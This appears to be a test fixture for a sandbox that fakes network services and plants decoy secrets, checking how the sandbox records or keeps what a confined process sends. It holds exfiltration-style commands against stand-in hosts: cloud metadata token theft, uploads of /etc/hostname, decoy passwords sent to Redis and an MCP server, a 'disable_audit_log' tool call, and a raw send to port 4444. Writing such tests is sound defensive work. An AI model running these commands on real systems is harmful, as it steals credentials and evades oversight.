"""Everything of a range that remembers what a cell did: how to leave a word in it, and how to look
for it, by real clients in a cell."""

from __future__ import annotations

import json
import re
from dataclasses import dataclass
from pathlib import Path
from typing import Final

from tests.fakes.registries import make_deb, make_tar, make_wheel

WORD: Final = "left-in-one"
POLICY: Final = """\
belljar: 1
risk: low
user: root
resources: {memory: 256MiB, disk: 64MiB}
network:
  default: simulate
  sink: true
  stand_ins:
    board:
      kind: http
      names: [board.example, "*.board.example"]
      ports: [80, 443/tls]
      routes: [{path: /, body: "now {{ body }}"}]
    replay: {kind: har, names: [replay.example], recording: files/replay.har}
    app: {kind: python, user: root, app: "main:app", files: app, names: [app.example], ports: [80], health: {http: /, port: 80, interval: 100ms, retries: 300}}
    db:
      kind: cell
      user: root
      names: [db.example]
      ports: [80]
      files: [{source: files/server.py, target: /srv/server.py}]
      command: [python3, /srv/server.py]
      health: {http: /, port: 80, interval: 100ms, retries: 300}
    index: {kind: pypi, names: [index.example], packages: wheels}
    npm: {kind: npm, names: [npm.example], packages: npm}
    apt: {kind: debian, names: [apt.example], packages: deb}
    forge: {kind: git, names: [forge.example], repositories: repositories}
    post: {kind: smtp, names: [mail.example], ports: [25]}
    cloud: {kind: metadata, tokens: required}
    model: {kind: openai, names: [model.example]}
decoys:
  - {id: store, kind: redis, place: redis.example}
  - {id: sql, kind: postgres, place: postgres.example}
  - {id: tools, kind: mcp, place: mcp.example}
  - {id: jump, kind: ssh, place: ssh.example}
  - {id: note, kind: text, place: /srv/store, service: store, template: "{password}"}
  - {id: key, kind: text, place: /srv/tools, service: tools, template: "{password}"}
"""
FILES: Final = {
    "files/replay.har": json.dumps(
        {
            "log": {
                "version": "1.2",
                "creator": {"name": "t", "version": "1"},
                "entries": [
                    {
                        "request": {"method": "GET", "url": "http://replay.example/turns"},
                        "response": {
                            "status": 200,
                            "headers": [],
                            "content": {"text": text, "mimeType": "text/plain"},
                        },
                    }
                    for text in ("first", WORD)
                ],
            }
        }
    ),
    "files/server.py": (
        "import http.server as h\n"
        "kept = [b'ready']\n"
        "class Desk(h.BaseHTTPRequestHandler):\n"
        "    def do_GET(self):\n"
        "        if self.command == 'POST':\n"
        "            kept.append(self.rfile.read(int(self.headers['content-length'])))\n"
        "        self.send_response(200)\n"
        "        self.end_headers()\n"
        "        self.wfile.write(b' '.join(kept))\n"
        "    do_POST = do_GET\n"
        "h.HTTPServer(('', 80), Desk).serve_forever()\n"
    ),
    "app/main.py": (
        "kept = [b'ready']\n"
        "async def app(scope, receive, send):\n"
        "    if scope['type'] != 'http':\n"
        "        return\n"
        "    if scope['method'] == 'POST':\n"
        "        kept.append((await receive())['body'])\n"
        "    await send({'type': 'http.response.start', 'status': 200, 'headers': []})\n"
        "    await send({'type': 'http.response.body', 'body': b' '.join(kept)})\n"
    ),
    "repositories/thing.git/HEAD": "ref: refs/heads/main\n",
    "repositories/thing.git/config": "[core]\n\trepositoryformatversion = 0\n\tbare = true\n",
}
FOLDERS: Final = (
    "wheels",
    "npm",
    "deb",
    "repositories/thing.git/objects/info",
    "repositories/thing.git/refs/heads",
)


def lay(folder: Path) -> Path:
    """The policy and its files, readable for gateways, who are nobody here."""
    for name in FOLDERS:
        (folder / name).mkdir(parents=True)
    for name, text in FILES.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text)
    make_wheel(folder / "wheels", "lib", "1.0")
    make_deb(folder / "deb", "lib", "1.0")
    make_tar(
        folder / "npm/lib-1.0.0.tgz",
        {"package/package.json": b'{"name": "lib", "version": "1.0.0"}'},
    )
    for path in (folder, *folder.rglob("*")):
        path.chmod(0o755)
    policy = folder / "policy.yaml"
    policy.write_text(POLICY)
    return policy


def shell(words: str) -> tuple[str, ...]:
    """A command of a shell's."""
    return "bash", "-c", words


@dataclass(frozen=True)
class Memory:
    """One place that keeps something.

    Args: leave: what is done in a range. look: the question whether it is there, asked once of each
    range. In `{key}` stands what whoever asks may have to know, carried over by hand. key: what is
    to be known of the answer to `leave`: a pattern's first group. found: what the answer to `look`
    has in it when it is there; `{key}` likewise.
    """

    name: str
    leave: str
    look: str
    key: str = "()"
    found: str = WORD

    def known(self, said: str) -> str:
        """The key, of what was said when it was left."""
        match = re.search(self.key, said)
        assert match is not None, said
        return match[1]


_GET: Final = "curl -sS --max-time 60"
_TOKEN: Final = (
    f"{_GET} -X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 600'"
    " http://169.254.169.254/latest/api/token"
)
_IDENTITY: Final = (
    f'{_GET} -H "X-aws-ec2-metadata-token: $({_TOKEN})"'
    " http://169.254.169.254/latest/dynamic/instance-identity/document"
)
_REPOSITORY: Final = "http://forge.example/thing.git"
_PUSH: Final = f"""
set -e; cd "$(mktemp -d)"; git init -q .; git config user.name x; git config user.email x@example.org
echo text > file; git add file; git commit -qm word; git push -q {_REPOSITORY} HEAD:refs/heads/{WORD}; git rev-parse HEAD
"""
_LEAF: Final = (
    f"openssl s_client -connect {WORD}.board.example:443 -servername {WORD}.board.example <"
    " /dev/null 2> /dev/null | openssl x509 -noout -fingerprint -sha256"
)
KEEPING: Final = (
    Memory(
        "har, whose turn it is",
        f"{_GET} http://replay.example/turns",
        f"{_GET} http://replay.example/turns",
    ),
    Memory(
        "python, the app's memory",
        f"{_GET} -d {WORD} http://app.example/",
        f"{_GET} http://app.example/",
    ),
    Memory(
        "cell, a target's memory",
        f"{_GET} -d {WORD} http://db.example/",
        f"{_GET} http://db.example/",
    ),
    Memory("git, a pushed reference", _PUSH, f"git ls-remote {_REPOSITORY}"),
    Memory(
        "git, a pushed commit, by its id",
        _PUSH.replace(WORD, "another"),
        f'cd "$(mktemp -d)"; git init -q .; git fetch -q {_REPOSITORY} {{key}} && git cat-file -t'
        " {key}",
        "([0-9a-f]{40})",
        "commit",
    ),
    Memory(
        "metadata, a token",
        _TOKEN,
        _GET + " -i -H 'X-aws-ec2-metadata-token: {key}'"
        " http://169.254.169.254/latest/meta-data/instance-id",
        "(.+)",
        "HTTP/1.1 200",
    ),
    Memory("metadata, the identity", _IDENTITY, _IDENTITY, '"instanceId": "([^"]+)"', "{key}"),
    Memory("the gateway's certificates", _LEAF, _LEAF, "Fingerprint=([0-9A-F:]+)", "{key}"),
    Memory(
        "the cell's own disk and memory",
        f"echo {WORD} | tee /tmp/word /dev/shm/word",
        "cat /tmp/word /dev/shm/word",
    ),
)
"""Each keeps what a cell leaves in it, for its own range."""


@dataclass(frozen=True)
class Void:
    """What takes something and keeps nothing but the record.

    Args:
        give: what a cell does.
        ask: what it could be noticed by; the same words, before and after.
        event: kind and text of the event that says that it was given.
    """

    name: str
    give: tuple[str, ...]
    ask: tuple[str, ...]
    event: tuple[str, str]


_SAY: Final = """
import socket, sys
s = socket.create_connection((sys.argv[1], int(sys.argv[2])), 30)
for line in sys.argv[3:]:
    print(s.recv(999))
    s.sendall(line.encode() + b"\\r\\n")
print(s.recv(999))
"""
_SINK: Final = """
import socket, sys
s = socket.create_connection((sys.argv[1], 4444), 30)
s.sendall(sys.argv[2].encode())
s.shutdown(socket.SHUT_WR)
print(s.recv(999))
"""
_POSTGRES: Final = """
import socket, struct, sys
said = b"\\0\\3\\0\\0user\\0" + sys.argv[1].encode() + b"\\0database\\0crm\\0\\0"
with socket.create_connection(("postgres.example", 5432), 30) as s:
    s.sendall(struct.pack(">I", len(said) + 4) + said)
    print(s.recv(999))
"""
_SSH: Final = """
import socket, sys
with socket.create_connection(("ssh.example", 22), 30) as s:
    s.sendall(b"SSH-2.0-" + sys.argv[1].encode() + b"\\r\\n")
    print(s.makefile("rb").readline())
"""
_JSON: Final = f"{_GET} -H 'Content-Type: application/json'"
_MODEL: Final = f"{_JSON} -H 'Authorization: Bearer x'"
_MAIL: Final = (
    "HELO cell",
    "MAIL FROM:<a@board.example>",
    f"RCPT TO:<{WORD}@outside.test>",
    "DATA",
    "text\r\n.",
    "QUIT",
)
_ASK_MAIL: Final = (
    "HELO cell",
    f"VRFY {WORD}@outside.test",
    "EXPN all",
    "ETRN board.example",
    "QUIT",
)


def _redis(*commands: str) -> str:
    """Commands to the range's Redis, with the password that its decoy holds."""
    said = "".join(f"{command}\\r\\n" for command in ("AUTH %s", *commands, "QUIT"))
    return (
        f"exec 3<>/dev/tcp/redis.example/6379; printf '{said}' \"$(cat /srv/store)\" >&3; cat <&3"
    )


def _mcp(method: str, **params: object) -> str:
    """A message to the range's tool server, with the token that its decoy holds."""
    message = json.dumps({"jsonrpc": "2.0", "id": 1, "method": method, "params": params})
    return (
        f"{_JSON} -H \"Authorization: Bearer $(cat /srv/tools)\" -d '{message}'"
        " http://mcp.example/mcp"
    )


VOIDS: Final = (
    Void(
        "http, what was posted",
        shell(f"{_GET} -d {WORD} http://board.example/"),
        shell(f"{_GET} http://board.example/"),
        ("network.http", WORD),
    ),
    Void(
        "pypi, an upload",
        shell(
            f"{_GET} -F :action=file_upload -F name={WORD} -F version=1 -F"
            f" 'content=@/etc/hostname;filename={WORD}-1.tar.gz' http://index.example/legacy/"
        ),
        shell(f"{_GET} http://index.example/simple/ http://index.example/simple/{WORD}/"),
        ("network.attempt", WORD),
    ),
    Void(
        "npm, a package",
        shell(
            f"""{_JSON} -X PUT -d '{{"name": "{WORD}", "versions": {{"1": {{}}}}, "_attachments": {{"a": {{"data": "AA"}}}}}}' http://npm.example/{WORD}"""
        ),
        shell(f"{_GET} http://npm.example/{WORD} 'http://npm.example/-/v1/search?text={WORD}'"),
        ("network.attempt", WORD),
    ),
    Void(
        "debian, an upload",
        shell(f"{_GET} -T /etc/hostname http://apt.example/pool/{WORD}.deb"),
        shell(
            f"{_GET} http://apt.example/pool/{WORD}.deb"
            " http://apt.example/dists/stable/main/binary-amd64/Packages"
        ),
        ("network.http", WORD),
    ),
    Void(
        "smtp, a mail",
        ("python3", "-c", _SAY, "mail.example", "25", *_MAIL),
        ("python3", "-c", _SAY, "mail.example", "25", *_ASK_MAIL),
        ("network.attempt", WORD),
    ),
    Void(
        "openai, a conversation",
        shell(
            f"""{_MODEL} -d '{{"model": "m", "messages": [{{"role": "user", "content": "{WORD}"}}]}}' http://model.example/v1/chat/completions"""
        ),
        shell(
            f"""{_MODEL} -d '{{"model": "m", "input": "and?", "previous_response_id": "resp_1"}}' http://model.example/v1/responses"""
        ),
        ("network.http", "http://model.example/v1/chat/completions"),
    ),
    Void(
        "redis, a word",
        shell(_redis(f"SET {WORD} {WORD}")),
        shell(_redis(f"GET {WORD}", "KEYS *", "DBSIZE")),
        ("network.attempt", WORD),
    ),
    Void(
        "postgres, a user",
        ("python3", "-c", _POSTGRES, WORD),
        ("python3", "-c", _POSTGRES, "anybody"),
        ("network.stream", '"stand_in": "sql"'),
    ),
    Void(
        "ssh, a client's version",
        ("python3", "-c", _SSH, WORD),
        ("python3", "-c", _SSH, "anybody"),
        ("network.stream", '"stand_in": "jump"'),
    ),
    Void(
        "mcp, a tool's call",
        shell(_mcp("tools/call", name="disable_audit_log", arguments={})),
        shell(_mcp("tools/list")),
        ("network.attempt", "disable_audit_log"),
    ),
    Void(
        "the catch-all, something sent",
        shell(f"{_GET} -d {WORD} http://elsewhere.test/api/things"),
        shell(f"{_GET} http://elsewhere.test/api/things http://elsewhere.test/{WORD}"),
        ("network.attempt", "elsewhere.test/api/things"),
    ),
    Void(
        "the sink, some bytes",
        ("python3", "-c", _SINK, "203.0.113.5", WORD),
        ("python3", "-c", _SINK, "203.0.113.5", "anything"),
        ("network.stream", "203.0.113.5"),
    ),
    Void(
        "the resolver, a name",
        ("getent", "ahostsv4", f"{WORD}.board.example"),
        ("getent", "ahostsv4", f"{WORD}.board.example"),
        ("network.dns", WORD),
    ),
)
"""Each takes it, says so on the record, and answers afterwards as before."""
